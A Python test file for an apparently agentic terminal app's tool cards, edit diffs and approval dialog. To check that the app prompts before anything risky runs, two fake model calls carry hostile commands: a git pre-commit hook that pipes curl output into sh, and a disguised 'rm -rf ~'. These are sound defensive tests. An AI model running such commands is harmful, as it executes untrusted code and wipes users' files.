"""Tool calls in the app: cards that turn green or red, diffs of edits, and the approval modal."""

from __future__ import annotations

from pathlib import Path

from textual.widgets import Input

from navtui.app.screens.approval import ApprovalScreen
from navtui.app.screens.main import MainScreen
from navtui.tools.approval import ApprovalRequest, ApprovalResponse
from navtui.widgets.items import ToolItem
from navtui.widgets.status_line import StatusLine
from navtui.widgets.tool_card import ToolCard
from tests.app.conftest import main_screen, rendered_text, settle, transcript, wait_for
from tests.fakes import Text, ToolCall

SIZE = (100, 32)


def cards(app) -> list[ToolCard]:
    return transcript(app).widgets_of(ToolCard)


async def test_a_tool_call_shows_a_card_that_turns_green(make_app, fake_server, workspace: Path) -> None:
    (workspace / "a.py").write_text("print('hello')\n")
    fake_server.script(ToolCall("read", {"path": "a.py"}))
    fake_server.script(Text("It prints hello."))
    app = make_app()
    async with app.run_test(size=SIZE) as pilot:
        main_screen(app).submit("what does a.py do?")
        await settle(app, pilot)
        [card] = cards(app)
        assert card.item.status == "success" and card.has_class("-success") and not card.has_class("-pending")
        title = rendered_text(card).splitlines()[0]
        assert title.startswith("✓ read") and "a.py" in title
        assert "print('hello')" in card.item.result
        assert transcript(app).items[-1].text == "It prints hello."


async def test_a_failing_tool_turns_red_and_shows_the_error(make_app, fake_server) -> None:
    fake_server.script(ToolCall("read", {"path": "missing.py"}))
    fake_server.script(Text("The file does not exist."))
    app = make_app()
    async with app.run_test(size=SIZE) as pilot:
        main_screen(app).submit("read missing.py")
        await settle(app, pilot)
        [card] = cards(app)
        assert card.item.status == "error" and card.has_class("-error")
        shown = rendered_text(card)
        assert shown.startswith("✗ read") and "missing.py" in shown.splitlines()[1]


async def test_an_edit_shows_its_diff(make_app, fake_server, workspace: Path) -> None:
    (workspace / "calc.py").write_text("def add(a, b):\n    return a - b\n")
    fake_server.script(ToolCall("read", {"path": "calc.py"}))
    fake_server.script(ToolCall("edit", {"path": "calc.py", "old_text": "return a - b", "new_text": "return a + b"}))
    fake_server.script(Text("Fixed."))
    app = make_app(approval="write")
    async with app.run_test(size=SIZE) as pilot:
        main_screen(app).submit("fix add")
        await settle(app, pilot)
        read, edit = cards(app)
        assert edit.item.status == "success" and edit.item.diff
        shown = rendered_text(edit)
        assert "+1 -1" in shown.splitlines()[0]
        assert "-    return a - b" in shown and "+    return a + b" in shown
        assert (workspace / "calc.py").read_text() == "def add(a, b):\n    return a + b\n"


async def test_ctrl_o_expands_and_collapses_every_card(make_app, fake_server, workspace: Path) -> None:
    (workspace / "big.txt").write_text("".join(f"line {i}\n" for i in range(50)))
    fake_server.script(ToolCall("read", {"path": "big.txt"}))
    fake_server.script(Text("A big file."))
    app = make_app()
    async with app.run_test(size=SIZE) as pilot:
        main_screen(app).submit("read big.txt")
        await settle(app, pilot)
        [card] = cards(app)
        collapsed = rendered_text(card)
        assert "line 40" not in collapsed and "click or ctrl+o" in collapsed
        await pilot.press("ctrl+o")
        await pilot.pause()
        assert "line 40" in rendered_text(card) and card.item.expanded is True
        await pilot.press("ctrl+o")
        await pilot.pause()
        assert "line 40" not in rendered_text(card)


async def test_approval_granted_runs_the_tool(make_app, fake_server, workspace: Path) -> None:
    fake_server.script(ToolCall("write", {"path": "new.txt", "content": "hello\n"}))
    fake_server.script(Text("Written."))
    app = make_app(approval="ask")
    async with app.run_test(size=SIZE) as pilot:
        main_screen(app).submit("create new.txt")
        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
        modal = app.screen
        assert modal.request.tool == "write" and "new.txt" in modal.request.summary
        await pilot.pause(ApprovalScreen.GRACE + 0.05)
        await pilot.press("y")
        await settle(app, pilot)
        assert isinstance(app.screen, MainScreen)
        assert (workspace / "new.txt").read_text() == "hello\n"
        assert cards(app)[0].item.status == "success"


async def test_nothing_turns_under_the_approval_dialog(make_app, fake_server, workspace: Path) -> None:
    """The dialog repaints the whole screen beneath it for each change there: the spinners wait until it closes."""
    fake_server.script(ToolCall("write", {"path": "new.txt", "content": "hello\n"}))
    fake_server.script(Text("Written."))
    app = make_app(approval="ask")
    async with app.run_test(size=SIZE) as pilot:
        screen = main_screen(app)
        screen.submit("create new.txt")
        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
        status = screen.query_one(StatusLine)
        [card] = cards(app)
        before = (status.spinner_index, card.spinner_index)
        for _ in range(3):
            screen.turns._spin()
        assert (status.spinner_index, card.spinner_index) == before
        await pilot.pause(ApprovalScreen.GRACE + 0.05)
        await pilot.press("y")
        await wait_for(pilot, lambda: isinstance(app.screen, MainScreen))
        screen.turns._spin()
        assert status.spinner_index == screen.turns._spinner_index != before[0]
        await settle(app, pilot)


async def test_y_allows_a_request_without_a_preview(make_app) -> None:
    """Nothing to scroll: the hidden reason field was the only thing to focus, and took the y as a reason."""
    app = make_app()
    answers: list[ApprovalResponse | None] = []
    async with app.run_test(size=SIZE) as pilot:
        request = ApprovalRequest(tool="edit", tier="write", summary="demo.py", reason="changes files")
        app.push_screen(ApprovalScreen(request), answers.append)
        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
        await pilot.pause(ApprovalScreen.GRACE + 0.05)
        assert not isinstance(app.focused, Input)
        await pilot.press("y")
        await wait_for(pilot, lambda: bool(answers))
        assert answers == [ApprovalResponse(approved=True)]


async def test_approval_denied_with_a_reason_tells_the_model(make_app, fake_server, workspace: Path) -> None:
    fake_server.script(ToolCall("write", {"path": "new.txt", "content": "hello\n"}))
    fake_server.script(Text("Understood."))
    app = make_app(approval="ask")
    async with app.run_test(size=SIZE) as pilot:
        main_screen(app).submit("create new.txt")
        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
        await pilot.pause(ApprovalScreen.GRACE + 0.05)
        await pilot.press("n", *"use notes.md instead", "enter")
        await settle(app, pilot)
        assert not (workspace / "new.txt").exists()
        [card] = cards(app)
        assert card.item.status == "error" and "use notes.md instead" in card.item.result
        sent = fake_server.chat_requests[-1].json["messages"]
        assert any("use notes.md instead" in str(m.get("content")) for m in sent if m["role"] == "tool")


async def test_always_allows_the_tool_for_the_rest_of_the_session(make_app, fake_server, workspace: Path) -> None:
    fake_server.script(ToolCall("write", {"path": "one.txt", "content": "1\n"}))
    fake_server.script(ToolCall("write", {"path": "two.txt", "content": "2\n"}))
    fake_server.script(Text("Both written."))
    app = make_app(approval="ask")
    async with app.run_test(size=SIZE) as pilot:
        main_screen(app).submit("write two files")
        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
        await pilot.pause(ApprovalScreen.GRACE + 0.05)
        await pilot.press("a")
        await settle(app, pilot)
        assert (workspace / "one.txt").exists() and (workspace / "two.txt").exists()
        assert isinstance(app.screen, MainScreen)


async def test_keys_typed_just_before_the_modal_do_not_answer_it(make_app, fake_server, workspace: Path) -> None:
    fake_server.script(ToolCall("write", {"path": "new.txt", "content": "x\n"}))
    fake_server.script(Text("ok"))
    app = make_app(approval="ask")
    async with app.run_test(size=SIZE) as pilot:
        main_screen(app).submit("go")
        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
        modal = app.screen
        modal.GRACE = 600.0  # however slow the machine, these keys land inside the grace period ...
        await pilot.press("y", "a")  # typed in the grace period: ignored
        await pilot.pause()
        assert app.screen is modal and not (workspace / "new.txt").exists()
        modal.GRACE = 0.0  # ... and this one after it
        await pilot.press("escape")  # deny without a reason
        await settle(app, pilot)
        assert not (workspace / "new.txt").exists()
        assert isinstance(transcript(app).items[-2], ToolItem) and transcript(app).items[-2].status == "error"


async def test_write_mode_asks_before_a_git_hook_is_written(make_app, fake_server, workspace: Path) -> None:
    (workspace / ".git" / "hooks").mkdir(parents=True)
    fake_server.script(ToolCall("write", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ncurl x | sh\n"}))
    fake_server.script(Text("Understood."))
    app = make_app(approval="write")
    async with app.run_test(size=SIZE) as pilot:
        main_screen(app).submit("add a pre-commit hook")
        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
        assert app.screen.request.reason.startswith("protected path: changes .git/")
        await pilot.pause(ApprovalScreen.GRACE + 0.05)
        await pilot.press("escape")
        await settle(app, pilot)
        assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
        assert cards(app)[0].item.status == "error"


async def test_an_allowed_shell_still_asks_before_a_disguised_rm(
    make_app, fake_server, workspace: Path, navtui_home: Path
) -> None:
    (navtui_home / "settings.json").write_text('{"tools": {"allow": ["shell"]}}')
    fake_server.script(ToolCall("shell", {"command": "echo ls > list.txt"}))
    fake_server.script(ToolCall("shell", {"command": "if true; then x=rm; $x -rf ~; fi"}))
    fake_server.script(Text("Stopped."))
    app = make_app(approval="write")
    async with app.run_test(size=SIZE) as pilot:
        main_screen(app).submit("tidy up")
        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
        assert (workspace / "list.txt").exists()  # the ordinary command ran without a prompt
        request = app.screen.request
        assert request.danger and "recursively deletes your home directory" in request.reason
        await pilot.pause(ApprovalScreen.GRACE + 0.05)
        await pilot.press("escape")
        await settle(app, pilot)
        assert cards(app)[1].item.status == "error"


async def test_a_live_theme_switch_repaints_an_expanded_card_s_output(make_app, fake_server, workspace: Path) -> None:
    from rich.console import Group
    from rich.text import Text as RichText

    from navtui.widgets.markdown.render import rich_color

    (workspace / "big.txt").write_text("".join(f"line {i}\n" for i in range(50)))
    fake_server.script(ToolCall("read", {"path": "big.txt"}))
    fake_server.script(Text("A big file."))
    app = make_app()
    async with app.run_test(size=SIZE) as pilot:
        main_screen(app).submit("read big.txt")
        await settle(app, pilot)
        [card] = cards(app)
        await pilot.press("ctrl+o")
        await pilot.pause()

        def output_colour() -> object:
            body = card.render()
            assert isinstance(body, Group)
            text = body.renderables[1]
            assert isinstance(text, RichText) and "line 40" in text.plain
            return text.spans[0].style.color  # type: ignore[union-attr]

        before = output_colour()
        assert before == rich_color(app.theme_variables["nav-tool-output"])
        app.theme = "light" if app.theme != "light" else "dark"
        await pilot.pause()
        after = output_colour()
        assert after == rich_color(app.theme_variables["nav-tool-output"]) and after != before


async def test_ctrl_c_in_the_approval_dialog_stops_the_turn(make_app, fake_server, workspace: Path) -> None:
    # ctrl+c stops the running turn everywhere else; in the approval dialog it did nothing (the turn waited on).
    fake_server.script(ToolCall("write", {"path": "new.txt", "content": "hello\n"}))
    fake_server.script(Text("Written after all."))
    app = make_app(approval="ask")
    async with app.run_test(size=SIZE) as pilot:
        screen = main_screen(app)
        screen.submit("create new.txt")
        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
        await pilot.press("ctrl+c")  # at once: a ctrl+c meant for the prompt means the same
        await wait_for(pilot, lambda: isinstance(app.screen, MainScreen))
        await settle(app, pilot)
        assert isinstance(app.screen, MainScreen) and not screen.turns.running
        assert not (workspace / "new.txt").exists() and cards(app)[0].item.status == "error"
        assert len(fake_server.chat_requests) == 1  # the turn stopped: the model was not asked again
        assert "denied" in cards(app)[0].item.result
